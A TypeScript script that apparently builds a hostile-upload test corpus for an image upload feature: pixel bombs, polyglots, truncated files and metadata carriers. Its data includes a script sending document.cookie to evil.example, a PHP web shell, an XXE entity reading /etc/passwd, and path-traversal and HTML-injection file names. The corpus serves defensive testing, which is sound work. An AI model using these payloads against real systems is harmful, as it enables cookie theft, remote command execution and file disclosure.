/**
 * Generates the hostile-upload corpus used by test/security/hostile-uploads.test.ts: pixel bombs,
 * polyglots, scripts dressed as images, truncated and empty files, oversized files, wrong
 * extensions, metadata carriers (EXIF GPS, XMP, ICC), CMYK, 16-bit, animated PNG, hostile names…
 * Each entry says whether the app must refuse it or may accept it (sanitised).
 *   npx tsx scripts/make-hostile-corpus.ts [dir]   (default .data/hostile-corpus; never committed)
 */
import { mkdirSync, writeFileSync } from "node:fs";
import path from "node:path";
import { crc32, deflateSync } from "node:zlib";
import sharp from "sharp";

export interface CorpusEntry {
  /** File on disk (inside the corpus directory). */
  file: string;
  /** The name the browser would send (may lie, may be hostile). */
  name: string;
  /** The declared content type (may lie). */
  type: string;
  expect: "refuse" | "accept";
  why: string;
}

const MiB = 1024 * 1024;
const u32 = (...v: number[]) => Buffer.concat(v.map((n) => { const b = Buffer.alloc(4); b.writeUInt32BE(n >>> 0); return b; }));
const u16 = (n: number) => Buffer.from([(n >> 8) & 0xff, n & 0xff]);
const chunk = (type: string, data: Buffer) => {
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  return Buffer.concat([u32(data.length), body, u32(crc32(body))]);
};
const SIG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
const ihdr = (w: number, h: number, depth = 1, colour = 0) => chunk("IHDR", Buffer.concat([u32(w, h), Buffer.from([depth, colour, 0, 0, 0])]));

/** A real 1-bit greyscale PNG of zeros: tiny on disk, width×height pixels when decoded. */
function zeroPng(w: number, h: number): Buffer {
  const raw = Buffer.alloc(h * (1 + Math.ceil(w / 8)));
  return Buffer.concat([SIG, ihdr(w, h), chunk("IDAT", deflateSync(raw, { level: 9 })), chunk("IEND", Buffer.alloc(0))]);
}

/** Only a header claiming w×h, and a few bytes of IDAT: "huge dimensions, tiny size". */
const headerOnlyPng = (w: number, h: number) => Buffer.concat([SIG, ihdr(w, h), chunk("IDAT", deflateSync(Buffer.alloc(64))), chunk("IEND", Buffer.alloc(0))]);

/** Rewrites the frame header (SOF0/SOF2) of a real JPEG to claim w×h. */
function jpegClaiming(jpeg: Buffer, w: number, h: number): Buffer {
  const out = Buffer.from(jpeg);
  for (let i = 2; i < out.length - 9; i++) {
    if (out[i] === 0xff && (out[i + 1] === 0xc0 || out[i + 1] === 0xc2)) {
      out.writeUInt16BE(h, i + 5);
      out.writeUInt16BE(w, i + 7);
      return out;
    }
  }
  throw new Error("no SOF marker");
}

/** An APNG: two frames (acTL, fcTL, IDAT, fcTL, fdAT). */
function apng(w: number, h: number): Buffer {
  const rows = (v: number) => deflateSync(Buffer.concat(Array.from({ length: h }, () => Buffer.concat([Buffer.from([0]), Buffer.alloc(w * 3, v)]))));
  const fctl = (seq: number) => chunk("fcTL", Buffer.concat([u32(seq, w, h, 0, 0), u16(1), u16(10), Buffer.from([0, 0])]));
  return Buffer.concat([
    SIG, ihdr(w, h, 8, 2), chunk("acTL", u32(2, 0)), fctl(0), chunk("IDAT", rows(200)), fctl(1),
    chunk("fdAT", Buffer.concat([u32(2), rows(30)])), chunk("IEND", Buffer.alloc(0)),
  ]);
}

/** Inserts a chunk right after IHDR (tEXt, iTXt…). */
const withPngChunk = (png: Buffer, type: string, data: Buffer) => Buffer.concat([png.subarray(0, 33), chunk(type, data), png.subarray(33)]);
/** Inserts a JPEG segment (COM, APPn…) right after SOI. */
const withJpegSegment = (jpeg: Buffer, marker: number, data: Buffer) => Buffer.concat([jpeg.subarray(0, 2), Buffer.from([0xff, marker]), u16(data.length + 2), data, jpeg.subarray(2)]);

const SCRIPT = "<script>fetch('https://evil.example/?c='+document.cookie)</script>";
const SVG = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="600" height="600" onload="alert(1)"><script>alert(document.domain)</script><rect width="600" height="600" fill="#c96"/></svg>`;
const XXE = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" width="600" height="600"><text>&x;</text></svg>`;
const XMP = `<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" dc:creator="Secret Person HomeAddress"/></rdf:RDF></x:xmpmeta>`;
const ZIP = Buffer.concat([Buffer.from("PK\x03\x04", "latin1"), Buffer.alloc(26), Buffer.from("payload.exe MZ\x90\x00 evil", "latin1"), Buffer.from("PK\x05\x06", "latin1"), Buffer.alloc(18)]);

export async function makeHostileCorpus(dir = ".data/hostile-corpus"): Promise<CorpusEntry[]> {
  const photo = (w = 640, h = 800) =>
    sharp({ create: { width: w, height: h, channels: 3, background: { r: 190, g: 140, b: 110 } } }).composite([
      { input: Buffer.from(`<svg width="${w}" height="${h}"><ellipse cx="${w / 2}" cy="${h * 0.42}" rx="${w / 5}" ry="${h / 5}" fill="#e8c4a8"/><rect y="${h * 0.7}" width="${w}" height="${h * 0.3}" fill="#335"/></svg>`) },
    ]);
  const jpeg = await photo().jpeg({ quality: 90 }).toBuffer();
  const png = await photo().png().toBuffer();
  const raw = await photo().raw().toBuffer();
  const rawImage = (opts = {}) => sharp(raw, { raw: { width: 640, height: 800, channels: 3 }, ...opts });
  const junk = Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919 + 13) % 256));

  const J = "image/jpeg";
  const P = "image/png";
  const files: Array<Omit<CorpusEntry, "file"> & { bytes: Buffer }> = [
    // Refused before decoding: empty, too big, not JPEG/PNG by content whatever the name says.
    { name: "empty.jpg", type: J, expect: "refuse", why: "zero bytes", bytes: Buffer.alloc(0) },
    { name: "one-byte.jpg", type: J, expect: "refuse", why: "one byte", bytes: Buffer.from([0xff]) },
    { name: "eleven-mb.jpg", type: J, expect: "refuse", why: "11 MB (a real JPEG padded)", bytes: Buffer.concat([jpeg, Buffer.alloc(11 * MiB - jpeg.length)]) },
    { name: "limit-plus-one.jpg", type: J, expect: "refuse", why: "10 MiB + 1 byte", bytes: Buffer.concat([jpeg, Buffer.alloc(10 * MiB + 1 - jpeg.length)]) },
    { name: "script.svg", type: "image/svg+xml", expect: "refuse", why: "SVG with script", bytes: Buffer.from(SVG) },
    { name: "script-svg.jpg", type: J, expect: "refuse", why: "SVG with script named .jpg", bytes: Buffer.from(SVG) },
    { name: "xxe.png", type: P, expect: "refuse", why: "SVG with an external entity", bytes: Buffer.from(XXE) },
    { name: "page.png", type: P, expect: "refuse", why: "HTML with script named .png", bytes: Buffer.from(`<!doctype html><html><body>${SCRIPT}</body></html>`) },
    { name: "shell.jpg", type: J, expect: "refuse", why: "PHP web shell", bytes: Buffer.from("<?php system($_GET['c']); ?>") },
    { name: "doc.jpg", type: J, expect: "refuse", why: "PDF named .jpg", bytes: Buffer.from("%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF") },
    { name: "elf.jpg", type: J, expect: "refuse", why: "an executable", bytes: Buffer.concat([Buffer.from("\x7fELF", "latin1"), junk]) },
    { name: "archive.png", type: P, expect: "refuse", why: "a ZIP named .png", bytes: ZIP },
    { name: "hello.jpg", type: J, expect: "refuse", why: "plain text", bytes: Buffer.from("hello") },
    { name: "still.gif", type: "image/gif", expect: "refuse", why: "GIF (not accepted)", bytes: await rawImage().gif().toBuffer() },
    { name: "gif-named.jpg", type: J, expect: "refuse", why: "GIF named .jpg", bytes: await rawImage().gif().toBuffer() },
    { name: "animated.gif", type: "image/gif", expect: "refuse", why: "animated GIF", bytes: await sharp([png, jpeg], { join: { animated: true } }).gif().toBuffer() },
    { name: "photo.webp", type: "image/webp", expect: "refuse", why: "WebP (not accepted)", bytes: await rawImage().webp().toBuffer() },
    { name: "webp-named.jpg", type: J, expect: "refuse", why: "WebP named .jpg", bytes: await rawImage().webp().toBuffer() },
    { name: "tiff-named.jpg", type: J, expect: "refuse", why: "TIFF named .jpg", bytes: await rawImage().tiff().toBuffer() },
    { name: "bitmap.jpg", type: J, expect: "refuse", why: "BMP header", bytes: Buffer.concat([Buffer.from("BM", "latin1"), u32(0x36000000), junk]) },
    { name: "iphone.heic", type: "image/heic", expect: "refuse", why: "HEIC header", bytes: Buffer.concat([u32(24), Buffer.from("ftypheic\0\0\0\0mif1heic", "latin1"), junk]) },
    { name: "photo.avif", type: "image/avif", expect: "refuse", why: "AVIF header", bytes: Buffer.concat([u32(28), Buffer.from("ftypavif\0\0\0\0avifmif1miaf", "latin1"), junk]) },
    // Refused by the decoder: damaged, truncated, lying magic.
    { name: "half.jpg", type: J, expect: "refuse", why: "JPEG cut in half", bytes: jpeg.subarray(0, jpeg.length >> 1) },
    { name: "header-only.jpg", type: J, expect: "refuse", why: "first 300 bytes of a JPEG", bytes: jpeg.subarray(0, 300) },
    { name: "soi.jpg", type: J, expect: "refuse", why: "JPEG magic and nothing else", bytes: Buffer.from([0xff, 0xd8, 0xff]) },
    { name: "magic-garbage.jpg", type: J, expect: "refuse", why: "JPEG magic then noise", bytes: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), junk]) },
    { name: "half.png", type: P, expect: "refuse", why: "PNG cut in half", bytes: png.subarray(0, png.length >> 1) },
    { name: "sig-garbage.png", type: P, expect: "refuse", why: "PNG signature then noise", bytes: Buffer.concat([SIG, junk]) },
    { name: "zero-size.png", type: P, expect: "refuse", why: "IHDR of 0×0", bytes: headerOnlyPng(0, 0) },
    { name: "png-magic-jpeg-body.png", type: P, expect: "refuse", why: "PNG magic on JPEG data", bytes: Buffer.concat([SIG, jpeg]) },
    // Pixel bombs: refused from the header, before any pixel is decoded.
    { name: "bomb-20000.png", type: P, expect: "refuse", why: "20000×20000 zeros (400 MP) in ~50 KB", bytes: zeroPng(20000, 20000) },
    { name: "bomb-header-100000.png", type: P, expect: "refuse", why: "header claims 100000×100000 (10 GP)", bytes: headerOnlyPng(100000, 100000) },
    { name: "bomb-wide.png", type: P, expect: "refuse", why: "header claims 60000000×1… ×2 rows", bytes: headerOnlyPng(60_000_000, 2) },
    { name: "bomb-65500.jpg", type: J, expect: "refuse", why: "JPEG frame header claims 65500×65500", bytes: jpegClaiming(jpeg, 65500, 65500) },
    { name: "bomb-jpeg-named.png", type: P, expect: "refuse", why: "JPEG bomb with a .png name", bytes: jpegClaiming(jpeg, 60000, 30000) },
    // Hostile names on a refused file: the message names it, cleaned and short.
    { name: "../../../etc/passwd", type: J, expect: "refuse", why: "path traversal in the name", bytes: Buffer.from("root:x:0:0") },
    { name: "evil\u202egpj.exe", type: J, expect: "refuse", why: "right-to-left override in the name", bytes: Buffer.from("MZ\x90\x00") },
    { name: `${"a".repeat(600)}.jpg`, type: J, expect: "refuse", why: "a 600-character name", bytes: Buffer.from("nope") },
    { name: "<img src=x onerror=alert(1)>.jpg", type: J, expect: "refuse", why: "HTML in the name", bytes: Buffer.from("nope") },
    // Accepted, but only their pixels survive.
    { name: "gps.jpg", type: J, expect: "accept", why: "EXIF with GPS position and camera serial", bytes: await rawImage().jpeg().withExif({ IFD0: { Make: "Phone", Model: "Secret Model", Artist: "Secret Person" }, IFD3: { GPSLatitudeRef: "N", GPSLatitude: "48/1 51/1 2/1", GPSLongitudeRef: "E", GPSLongitude: "2/1 21/1 7/1" } }).toBuffer() },
    { name: "xmp.jpg", type: J, expect: "accept", why: "XMP with the author's name", bytes: await rawImage().jpeg().withXmp(XMP).toBuffer() },
    { name: "p3.jpg", type: J, expect: "accept", why: "Display P3 ICC profile", bytes: await rawImage().jpeg().withIccProfile("p3").toBuffer() },
    { name: "cmyk.jpg", type: J, expect: "accept", why: "CMYK JPEG", bytes: await rawImage().toColourspace("cmyk").jpeg().toBuffer() },
    { name: "deep.png", type: P, expect: "accept", why: "16-bit RGB PNG", bytes: await rawImage().toColourspace("rgb16").png().toBuffer() },
    { name: "deep-alpha.png", type: P, expect: "accept", why: "16-bit RGBA PNG", bytes: await rawImage().ensureAlpha(0.5).toColourspace("rgb16").png().toBuffer() },
    { name: "grey.png", type: P, expect: "accept", why: "greyscale PNG", bytes: await rawImage().greyscale().png().toBuffer() },
    { name: "transparent.png", type: P, expect: "accept", why: "PNG with alpha", bytes: await rawImage().ensureAlpha(0.3).png().toBuffer() },
    { name: "animated.png", type: P, expect: "accept", why: "animated PNG (APNG): the first frame only", bytes: apng(600, 600) },
    { name: "rotated.jpg", type: J, expect: "accept", why: "EXIF orientation 6", bytes: await rawImage().jpeg().withMetadata({ orientation: 6 }).toBuffer() },
    { name: "zip-polyglot.jpg", type: J, expect: "accept", why: "JPEG with a ZIP appended", bytes: Buffer.concat([jpeg, ZIP]) },
    { name: "html-polyglot.jpg", type: J, expect: "accept", why: "JPEG with HTML/JS appended", bytes: Buffer.concat([jpeg, Buffer.from(SCRIPT)]) },
    { name: "comment-script.jpg", type: J, expect: "accept", why: "JPEG COM segment holding a script", bytes: withJpegSegment(jpeg, 0xfe, Buffer.from(SCRIPT)) },
    { name: "text-chunk.png", type: P, expect: "accept", why: "PNG tEXt chunk with a script, and PHP after IEND", bytes: Buffer.concat([withPngChunk(png, "tEXt", Buffer.from(`Comment\0${SCRIPT}`)), Buffer.from("<?php system('id'); ?>")]) },
    { name: "really-a-jpeg.png", type: P, expect: "accept", why: "a JPEG named .png (content decides)", bytes: jpeg },
    { name: "really-a-png.gif", type: "image/gif", expect: "accept", why: "a PNG named .gif", bytes: png },
    { name: "noextension", type: "application/octet-stream", expect: "accept", why: "no extension, generic type", bytes: jpeg },
    { name: "progressive.jpg", type: J, expect: "accept", why: "progressive JPEG", bytes: await rawImage().jpeg({ progressive: true }).toBuffer() },
    { name: "tiny.jpg", type: J, expect: "accept", why: "1×1 JPEG (warned as small)", bytes: await sharp({ create: { width: 1, height: 1, channels: 3, background: "#888" } }).jpeg().toBuffer() },
    { name: "huge-ok.png", type: P, expect: "accept", why: "7000×7000 (49 MP, under the limit) in a few KB", bytes: zeroPng(7000, 7000) },
  ];

  mkdirSync(dir, { recursive: true });
  const entries = files.map(({ bytes, ...entry }, i) => {
    const file = `${String(i + 1).padStart(2, "0")}.bin`;
    writeFileSync(path.join(dir, file), bytes);
    return { file, ...entry };
  });
  writeFileSync(path.join(dir, "manifest.json"), `${JSON.stringify(entries, null, 2)}\n`);
  return entries;
}

if (import.meta.url === `file://${process.argv[1]}`) {
  const dir = process.argv[2] ?? ".data/hostile-corpus";
  const entries = await makeHostileCorpus(dir);
  console.log(`${entries.length} files in ${dir} (${entries.filter((e) => e.expect === "refuse").length} to refuse, ${entries.filter((e) => e.expect === "accept").length} to accept)`);
}
